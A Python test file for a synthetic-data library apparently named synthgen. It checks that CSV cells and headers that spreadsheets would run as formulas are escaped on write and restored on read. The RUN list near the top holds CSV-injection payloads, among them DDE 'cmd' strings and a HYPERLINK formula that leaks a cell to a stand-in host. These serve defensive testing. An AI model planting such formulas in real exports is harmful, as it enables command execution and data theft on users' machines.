"""Cells that a spreadsheet would run: escaped when a CSV is written, as they were when it is read."""

import csv
import itertools
import json

import pandas as pd
import pyarrow as pa
import pytest
from hypothesis import HealthCheck, example, given, settings
from hypothesis import strategies as st

from synthgen import Synthesizer
from synthgen.data import Table, read, write
from synthgen.data.formulas import escape_names, is_formula, unescape_names
from synthgen.data.table import read_table
from synthgen.schema import Dialect, Schema

RUN = [  # OWASP, "CSV injection", and what is written in their place
    "=1+1",
    "=cmd|' /C calc'!A0",
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    '=HYPERLINK("http://x.example?leak="&A1,"click")',
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "＝1+1",
    "＋1",
    "－1",
    "＠x",
    "-1/2",
    "+49 170 1234567",
    "- none of these -",
    "-5\n=1+1",
    "-1.2.3",
    "-infidel",
]
HARMLESS = ["-5", "+5", "-1,234.50", "-1.234,5", "-0,5", "-.5", "-5.", "-1e-07", "-5 %", "-5%", "-$12", "-€1,234"]
HARMLESS += ["-12 €", "-1 234,5", "-1'234", "-inf", "+Infinity", "-", "--", "+", "=", "@", "", "'", "'a", "a=1"]
HARMLESS += ["2020-01-01", "12:30", " =1", "1-2", "x@y.example", "P-7"]


@pytest.mark.parametrize("cell", RUN)
def test_what_a_spreadsheet_would_run_gets_a_mark(cell):
    assert is_formula(cell)
    assert escape_names([cell, "'" + cell, "''" + cell]) == ["'" + cell, "''" + cell, "'''" + cell]


@pytest.mark.parametrize("cell", HARMLESS)
def test_numbers_dates_and_lone_signs_stay(cell):
    assert not is_formula(cell)
    assert unescape_names([cell]) == [cell]


def test_every_short_text_of_dangerous_characters_comes_back():
    texts = ["".join(t) for n in range(5) for t in itertools.product("'=-@\t1a.", repeat=n)]
    escaped = escape_names(texts)
    assert len(set(escaped)) == len(texts)
    assert unescape_names(escaped) == texts


hostile = st.text(st.sampled_from("'=+-@\t\r\n＝015.,%$€e \"a;|"), max_size=7)
tables = st.integers(1, 4).flatmap(lambda width: st.lists(st.tuples(*[hostile] * width), min_size=1, max_size=6))
names = st.lists(hostile.map(lambda t: t + "x"), min_size=4, max_size=4, unique_by=str.strip)


@settings(
    deadline=None, max_examples=300, derandomize=True, suppress_health_check=[HealthCheck.function_scoped_fixture]
)
@given(table=tables, names=names, delimiter=st.sampled_from(",;\t|"), quote=st.sampled_from("\"'"))
@example([("'=x", "=x")], ["=a", "'=a", "b", "c"], ",", "'")
def test_any_table_comes_back_and_runs_nowhere(tmp_path, table, names, delimiter, quote):
    dialect = Dialect(delimiter=delimiter, quote=quote)
    columns = zip(*table, strict=True)
    names = [name.strip(" ") if name[:1] == " " else name for name in names[: len(table[0])]]
    data = pa.table([pa.array(column) for column in columns], names)
    write(Table(data, dialect), tmp_path / "x.csv")
    again = read_table(tmp_path / "x.csv", dialect).data
    assert again.columns == data.columns
    assert again.column_names == [n if escape_names([n]) != [n] else n.strip() for n in names]
    with (tmp_path / "x.csv").open(newline="") as file:  # an independent reader
        cells = [cell for row in csv.reader(file, delimiter=delimiter, quotechar=quote) for cell in row]
    assert not any(map(is_formula, cells))


@pytest.fixture
def formulas(tmp_path):
    """A table with formulas in its header and cells, escaped by hand, and numbers that begin with signs."""
    path = tmp_path / "formulas.csv"
    labels = ["'=1+1", "'-none", "''@x", "plain"]
    lines = [f"{labels[i % 4]},{i % 7 - 3},{'-' if i % 9 == 4 else f'-0.{i % 5}'}" for i in range(200)]
    path.write_text("\n".join(["'=label,n,'-x-", *lines]) + "\n")
    return path


def test_a_schema_sees_what_is_meant(formulas):
    schema = read(formulas).schema
    assert [(c.name, c.kind) for c in schema.columns] == [
        ("=label", "categorical"),
        ("n", "numeric"),
        ("-x-", "numeric"),
    ]
    assert schema["-x-"].missing == ("-",)
    assert set(read(formulas).data["=label"].to_pylist()) == {"=1+1", "-none", "'@x", "plain"}
    assert json.loads(schema.to_json())["csv"]["escaped"] is True


def test_cells_are_read_as_they_are_where_that_is_told(formulas, tmp_path):
    for table in (read_table(formulas, raw=True), read_table(formulas, Dialect(escaped=False))):
        assert table.data.column_names == ["'=label", "n", "'-x-"]
        assert "'=1+1" in table.data[0].to_pylist()
        write(table, tmp_path / "again.csv")  # which the schema records
        assert (tmp_path / "again.csv").read_bytes() == formulas.read_bytes()
    body = read_table(formulas, raw=True).schema.to_json()
    assert Schema.from_json(body).csv == Dialect(escaped=False)


def test_what_is_drawn_is_escaped_again_fits_again_and_is_raw_if_asked(command, formulas, tmp_path):
    fit = ["-g", "trees", "-s", "rounds=0"]
    assert command("fit", formulas, "-o", tmp_path / "m", *fit).code == 0
    for out, options in (("a.csv", []), ("b.csv", ["--raw-csv"]), ("c.parquet", [])):
        assert command("generate", tmp_path / "m", "-n", 300, "-o", tmp_path / out, *options).code == 0
    escaped, raw = ((tmp_path / f"{name}.csv").read_text() for name in "ab")
    assert escaped.startswith("'=label,n,'-x-\n")
    assert raw.startswith("=label,n,-x-\n")
    assert not any(line.startswith(("=", "@", "-")) for line in escaped.splitlines())
    assert {line.split(",")[0] for line in raw.splitlines()[1:]} == {"=1+1", "-none", "'@x", "plain"}
    frames = [read(tmp_path / "a.csv").data, read_table(tmp_path / "b.csv", raw=True).data]
    assert frames[0].equals(frames[1])
    assert pd.read_parquet(tmp_path / "c.parquet")["=label"].isin(["=1+1", "-none", "'@x", "plain"]).all()
    assert command("fit", tmp_path / "a.csv", "-o", tmp_path / "again", *fit).code == 0
    columns = Synthesizer.load(tmp_path / "again").codec.dataset_schema.names
    assert columns == ["=label", "n", "-x-"]
    told = command("generate", tmp_path / "m", "-n", 5, "-o", tmp_path / "d.csv", "--given", "=label==1+1")
    assert "known" in told.err or told.code == 2  # trees hold only what was given at fit


@pytest.mark.parametrize("verb", ["impute", "anomalies"])
def test_every_command_that_writes_a_table_escapes(command, formulas, tmp_path, verb):
    arguments = ["-g", "gmm", "-s", "passes=2"]
    assert command("fit", formulas, "-o", tmp_path / "m", *arguments).code == 0
    for out, options in (("a.csv", []), ("b.csv", ["--raw-csv"])):
        told = command(verb, tmp_path / "m", formulas, "-o", tmp_path / out, *options)
        if options:  # the model knows no column of that name
            assert "'=label" in told.err or told.code == 0
        else:
            assert told.code == 0, told.err
            assert (tmp_path / out).read_text().startswith("'=label,n,'-x-")
            assert [cell.split(",")[0] for cell in (tmp_path / out).read_text().splitlines()[1:5]] == [
                "'=1+1",
                "'-none",
                "''@x",
                "plain",
            ]


def test_classes_of_images_and_their_folders_run_nowhere(tmp_path):
    import numpy as np

    from synthgen.data import Images, ImageSchema

    classes = ("+1", "-x", "=1+1", "box")
    schema = ImageSchema(mode="L", height=4, width=4, classes=classes)
    images = Images(np.zeros((8, 4, 4, 1), np.uint8), np.arange(8) % 4, schema)
    write(images, tmp_path / "out")
    with (tmp_path / "out" / "metadata.csv").open(newline="") as file:
        rows = list(csv.reader(file))
    assert not any(is_formula(cell) for row in rows for cell in row)
    assert sorted(p.name for p in (tmp_path / "out").iterdir()) == ["_+1", "_-x", "_=1+1", "box", "metadata.csv"]
    assert sorted(read(tmp_path / "out").names) == sorted(images.names)  # though no folder has them
    write(images, tmp_path / "out.zip")
    assert sorted(read(tmp_path / "out.zip").names) == sorted(images.names)
